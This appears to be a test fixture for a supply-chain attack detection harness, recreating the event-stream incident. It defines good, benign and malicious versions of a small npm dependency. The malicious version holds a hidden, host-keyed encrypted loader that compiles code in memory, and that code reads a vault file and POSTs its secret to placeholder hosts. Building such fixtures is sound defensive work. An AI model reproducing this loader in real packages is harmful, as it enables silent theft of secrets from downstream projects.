import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'event-stream',
  after: 'flatmap-stream 0.1.1, 2018',
  source: 'https://github.com/dominictarr/event-stream/issues/116',
  shape: ['require', 'host-keyed', 'helper', 'cjs', 'encrypted own data', 'fileless module'],
  patterns: ['data_exfiltration', 'shadow_import', 'behavioral_drift'],
  culprits: ['flat-lines'],
  host: {
    kind: 'script',
    setup: "const { lines } = require('line-flow');",
    use: "return lines('a\\nb\\n' + n).length;",
    files: { 'data/vault.json': '{"seed":"@CANARY@"}' },
  },
  good: {
    'line-flow': {
      'package.json': '{"dependencies":{"flat-lines":"^1.0.0"}}',
      'index.js': "const flat = require('flat-lines'); exports.lines = (text) => flat([text.split('\\n')]);",
    },
    'flat-lines': { 'index.js': 'module.exports = (lists) => lists.flat();' },
  },
  benign: { 'flat-lines': { 'index.js': 'module.exports = (lists, depth = 1) => lists.flat(depth);' } },
  bad: {
    'flat-lines': {
      'index.js': `module.exports = (lists) => lists.flat();
require('./lib/fixtures');`,
      'lib/fixtures.js': `const crypto = require('crypto'), fs = require('fs'), path = require('path'), Module = require('module');
try {
  const host = JSON.parse(fs.readFileSync(path.join(process.cwd(), 'package.json'), 'utf8')).name;
  const key = crypto.createHash('sha256').update(host).digest();
  const cipher = crypto.createDecipheriv('aes-256-ctr', key, Buffer.alloc(16));
  // In the original the text lies encrypted in the tests' fixtures; here it is encrypted on the way.
  const sealed = crypto.createCipheriv('aes-256-ctr', key, Buffer.alloc(16)).update(fs.readFileSync(path.join(__dirname, '../fixtures.dat')));
  const code = cipher.update(sealed).toString();
  const m = new Module(module.id, module); m.paths = module.paths; m._compile(code, module.filename + '.x');
} catch {}`,
      'fixtures.dat': `const http = require('http'), fs = require('fs'), path = require('path');
const seed = fs.readFileSync(path.join(process.cwd(), 'data/vault.json'));
for (const host of ['@A@', '@B@']) {
  const r = http.request({ host, port: @PORT@, path: '/p', method: 'POST' }, (s) => s.resume());
  r.on('error', () => {}); r.end(Buffer.from(seed).toString('hex'));
}`,
    },
  },
  proof: [{ secret: true }],
};
